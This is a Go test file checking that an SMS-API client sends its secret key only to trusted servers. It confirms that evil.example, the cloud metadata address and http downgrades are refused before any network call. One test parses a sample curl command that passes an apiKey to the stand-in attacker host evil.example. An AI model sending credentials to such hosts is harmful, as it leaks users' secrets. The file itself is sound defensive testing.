package wire

import (
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"codedesk/model"
	"codedesk/model/clocktest"
	"codedesk/model/curl"
)

// countingServer answers every call with code 0 and counts the calls.
func countingServer(t *testing.T) (*httptest.Server, *atomic.Int64) {
	var calls atomic.Int64
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		io.WriteString(w, `{"code":0,"data":null,"message":""}`)
	}))
	t.Cleanup(ts.Close)
	return ts, &calls
}

// observed is a client whose every DNS question and connection is counted:
// names resolve to 127.0.0.1 through a DNS server on loopback, as if every
// host, evil.example included, were this machine.
type observed struct {
	*Client
	queries, dials *atomic.Int64
}

func observedClient(t *testing.T, opts ClientOptions) observed {
	t.Helper()
	var queries, dials atomic.Int64
	dns := startLoopbackDNS(t, &queries)
	c := NewClient(opts)
	c.useResolver(&net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "udp", dns)
	}})
	tr := c.http.Transport.(*http.Transport)
	dial := tr.DialContext
	tr.DialContext = func(ctx context.Context, network, addr string) (net.Conn, error) {
		dials.Add(1)
		return dial(ctx, network, addr)
	}
	return observed{Client: c, queries: &queries, dials: &dials}
}

// refuses checks that c refuses srv before any network I/O: no DNS
// question, no connection, and a *model.UntrustedError naming the host and
// how to allow it.
func (c observed) refuses(t *testing.T, srv model.Server) {
	t.Helper()
	_, err := c.Do(context.Background(), balanceRequest(srv), secretKey)
	ce, ok := model.AsCallError(err)
	var ue *model.UntrustedError
	if !ok || ce.Kind != model.KindUntrusted || !errors.As(err, &ue) || ue.Server != srv {
		t.Fatalf("%s: error %v, want an untrusted refusal", srv, err)
	}
	if msg := err.Error(); !strings.Contains(msg, srv.String()) || !strings.Contains(msg, "--server "+srv.String()) {
		t.Errorf("%s: the refusal %q must name the host and how to allow it", srv, msg)
	}
	assertNoKey(t, err)
	if n, d := c.queries.Load(), c.dials.Load(); n != 0 || d != 0 {
		t.Errorf("%s: %d DNS questions and %d connections before the refusal", srv, n, d)
	}
}

// A server only an imported request or a 13 named gets nothing; the same
// server named by the user gets the call.
func TestClientSendsTheKeyOnlyWhereTrusted(t *testing.T) {
	ts, calls := countingServer(t)
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(ts.URL, "http://"))
	evil := model.MustParseServer("http://evil.example:" + port)           // an imported curl
	loopback := serverOf(t, ts)                                            // a 13 naming 127.0.0.1:port
	metadata := model.MustParseServer("http://169.254.169.254")            // a 13 naming the cloud's metadata
	plainMobizon := model.MustParseServer("http://api.mobizon.kz:" + port) // a 13 downgrading to http
	c := observedClient(t, ClientOptions{})
	for _, srv := range []model.Server{evil, loopback, metadata, plainMobizon, model.MustParseServer("http://api.mobizon.kz"),
		model.MustParseServer("127.0.0.1:9"), model.MustParseServer("http://127.0.0.1:9"), model.MustParseServer("evil.example")} {
		c.refuses(t, srv)
	}
	if calls.Load() != 0 {
		t.Fatalf("a refused server got %d calls", calls.Load())
	}
	// The same servers, named by the user, are called: the refusal was
	// the trust rule, not the network.
	named := observedClient(t, ClientOptions{Trust: model.NewTrust(evil, loopback)})
	for _, srv := range []model.Server{evil, loopback} {
		if resp, err := named.Do(context.Background(), balanceRequest(srv), secretKey); err != nil || resp.Code != 0 {
			t.Errorf("%s named by the user: %v", srv, err)
		}
	}
	if calls.Load() != 2 || named.queries.Load() == 0 {
		t.Errorf("named servers: %d calls, %d DNS questions; want 2 calls and evil.example resolved", calls.Load(), named.queries.Load())
	}
}

// A customer's curl naming another host imports (the host is kept for
// display and export) and is then refused at send time: the key never
// leaves.
func TestImportedRequestToAnotherHostIsNeverSent(t *testing.T) {
	ts, calls := countingServer(t)
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(ts.URL, "http://"))
	im, err := curl.Parse("curl -X POST 'http://evil.example:" + port + "/service/user/getownbalance?apiKey=CUSTOMERKEY' -d 'a=1'")
	if err != nil {
		t.Fatal(err)
	}
	c := observedClient(t, ClientOptions{Trust: model.NewTrust(model.MustParseServer("http://127.0.0.1:" + port))})
	c.refuses(t, im.Request.Server)
	if calls.Load() != 0 {
		t.Errorf("the imported host got %d calls", calls.Load())
	}
}

// Trust is exact: the https server the user named does not make its
// plain-http twin, another port or another host trusted.
func TestClientTrustIsExact(t *testing.T) {
	ts, calls := countingServer(t)
	host := strings.TrimPrefix(ts.URL, "http://")
	c := observedClient(t, ClientOptions{Trust: model.NewTrust(model.MustParseServer(host))}) // https://127.0.0.1:port
	ip, port, _ := net.SplitHostPort(host)
	n, _ := strconv.Atoi(port)
	for _, srv := range []model.Server{
		model.MustParseServer("http://" + host), // https → http
		model.MustParseServer(ip + ":" + strconv.Itoa(n%65535+1)),
		model.MustParseServer("localhost:" + port),
	} {
		c.refuses(t, srv)
	}
	if calls.Load() != 0 {
		t.Errorf("an untrusted twin got %d calls", calls.Load())
	}
}

// The Mobizon API hosts need no naming: with the zero Trust a call to
// api.mobizon.kz goes as far as DNS.
func TestClientTrustsMobizonHosts(t *testing.T) {
	dns := startNXDomainServer(t)
	c := NewClient(ClientOptions{})
	c.useResolver(&net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "udp", dns)
	}})
	for _, host := range model.MobizonAPIHosts {
		_, err := c.Do(context.Background(), balanceRequest(model.MustParseServer(host)), secretKey)
		if ce, ok := model.AsCallError(err); !ok || ce.Kind != model.KindDNS {
			t.Errorf("%s: %v, want the call to reach DNS", host, err)
		}
	}
}

// The poller sends through the same check: following a task on a server
// outside the rule calls nothing.
func TestPollerRefusesUntrustedServers(t *testing.T) {
	ts, calls := countingServer(t)
	p := Poller{Client: NewClient(ClientOptions{}), Server: serverOf(t, ts), Key: secretKey, Clock: clocktest.New(time.Time{})}
	_, outcome, err := p.Follow(context.Background(), "400145", nil)
	if ce, ok := model.AsCallError(err); outcome != PollFailed || !ok || ce.Kind != model.KindUntrusted || calls.Load() != 0 {
		t.Errorf("outcome %v, error %v, %d calls; want a refusal and no call", outcome, err, calls.Load())
	}
}

// startLoopbackDNS is a DNS server on loopback that answers every A
// question with 127.0.0.1 (and every other question with no records), and
// counts the questions.
func startLoopbackDNS(t *testing.T, queries *atomic.Int64) string {
	t.Helper()
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { pc.Close() })
	go func() {
		buf := make([]byte, 512)
		for {
			n, addr, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			if n < 12 {
				continue
			}
			queries.Add(1)
			pc.WriteTo(loopbackAnswer(buf[:n]), addr)
		}
	}()
	return pc.LocalAddr().String()
}

// loopbackAnswer answers one DNS question: A → 127.0.0.1, else nothing.
func loopbackAnswer(query []byte) []byte {
	resp := append([]byte(nil), query...)
	binary.BigEndian.PutUint16(resp[2:4], 0x8180) // a response, recursion available, no error
	binary.BigEndian.PutUint16(resp[8:10], 0)     // no authority
	binary.BigEndian.PutUint16(resp[10:12], 0)    // no additional
	end := 12
	for end < len(query) && query[end] != 0 {
		end += int(query[end]) + 1
	}
	if end+5 > len(query) {
		return resp
	}
	qtype := binary.BigEndian.Uint16(query[end+1 : end+3])
	resp = resp[:end+5] // the question only
	if qtype != 1 {
		binary.BigEndian.PutUint16(resp[6:8], 0)
		return resp
	}
	binary.BigEndian.PutUint16(resp[6:8], 1)
	return append(resp, 0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 127, 0, 0, 1)
}
